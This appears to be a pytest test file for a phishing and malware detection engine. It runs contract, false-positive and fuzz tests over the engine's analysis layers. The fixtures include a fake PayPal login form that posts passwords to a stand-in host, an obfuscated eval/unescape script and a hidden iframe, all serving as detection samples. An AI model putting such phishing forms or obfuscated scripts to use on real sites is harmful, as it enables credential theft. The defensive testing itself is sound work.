"""One contract test run over every registered layer (as scikit-learn runs one over estimators)."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from malwaresnipper.engine import Capture, EngineConfig, LayerResult, RiskEngine, Severity
from malwaresnipper.engine.config import LAYER_NAMES
from malwaresnipper.engine.features import Features
from malwaresnipper.engine.layers.base import Layer, registered_layers

LAYERS = registered_layers()

SAMPLE_CAPTURES = [
    Capture.build("https://www.example.com/"),
    Capture.build("http://192.168.0.1:8081/paypal-login/verify@account", html="<html><title>PayPal</title>"
                  "<form action='http://evil.test/p.php'><input type=password name=pw></form></html>"),
    Capture.build("https://cdn.example.com/app.js", scripts=[{"url": "https://cdn.example.com/app.js",
                  "text": "eval(unescape('%61%6c%65%72%74'));", "inline": False}]),
    Capture.build("https://a.test/", html="<<<</div><script>var a=1</scr", source="extension",
                  dom={"forms": [{"action": "mailto:x@y.z", "has_password": True}],
                       "iframes": [{"src": "https://x.test/", "hidden": True}]}),
    Capture.build("data:text/html;base64,PHNjcmlwdD4="),
]


def test_registry_has_the_six_layers_once_each() -> None:
    names = [cls.name for cls in LAYERS]
    assert names == list(LAYER_NAMES)


@pytest.mark.parametrize("layer_cls", LAYERS, ids=lambda c: c.name)
def test_layer_contract(layer_cls: type[Layer]) -> None:
    layer = layer_cls(EngineConfig())
    assert isinstance(layer, Layer)
    assert isinstance(layer_cls.version, str) and layer_cls.version
    for capture in SAMPLE_CAPTURES:
        result = layer.analyze(capture, Features(capture))
        assert isinstance(result, LayerResult)
        assert result.layer == layer_cls.name
        assert 0.0 <= result.score <= 100.0
        assert 0.0 <= result.confidence <= 1.0
        json.dumps(result.to_dict())  # crosses process and network boundaries
        assert LayerResult.from_dict(result.to_dict()).to_dict() == result.to_dict()
        for indicator in result.indicators:
            assert indicator.id.split(".")[0] in (layer_cls.name, "engine"), indicator.id
            assert indicator.title and isinstance(indicator.severity, Severity)
            assert indicator.layer == layer_cls.name
            for ev in indicator.evidence:
                assert len(ev.snippet) <= 200 and ev.location


@pytest.mark.parametrize("layer_cls", LAYERS, ids=lambda c: c.name)
def test_plain_page_scores_zero_or_near(layer_cls: type[Layer]) -> None:
    """A silent layer on ordinary content keeps the noisy-OR honest (no baseline score)."""
    capture = Capture.build("https://www.wikipedia.org/", html="<html><head><title>Wikipedia</title></head>"
                            "<body><p>An encyclopedia.</p><a href='/wiki/Main_Page'>Main</a></body></html>")
    result = layer_cls(EngineConfig()).analyze(capture, Features(capture))
    assert result.score < 10, result.to_dict()


text_or_garbage = st.one_of(st.text(max_size=3000), st.binary(max_size=3000).map(lambda b: b.decode("latin-1")))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(html=text_or_garbage, script=text_or_garbage, path=st.text(max_size=200))
def test_engine_never_raises_on_arbitrary_input(html: str, script: str, path: str) -> None:
    # any path, written as a browser sends it (percent-encoded): the engine must take it
    url = "https://fuzz.test/" + quote(path, safe="/?=&%")
    capture = Capture.build(url, html=html, scripts=[script, {"url": "https://x.test/a.js", "text": script}])
    verdict = ENGINE.scan(capture)
    assert 0 <= verdict.risk_score <= 100
    errors = [r for r in verdict.layers if r.error]
    assert not errors, [r.error for r in errors]


@settings(max_examples=40, deadline=None)
@given(raw=st.binary(max_size=4000))
def test_every_layer_survives_binary_garbage(raw: bytes) -> None:
    capture = Capture.build("https://fuzz.test/", html=raw, scripts=[raw.decode("utf-8", "replace")])
    for layer in ENGINE.layers:
        layer.analyze(capture, Features(capture))  # must not raise


ENGINE = RiskEngine()
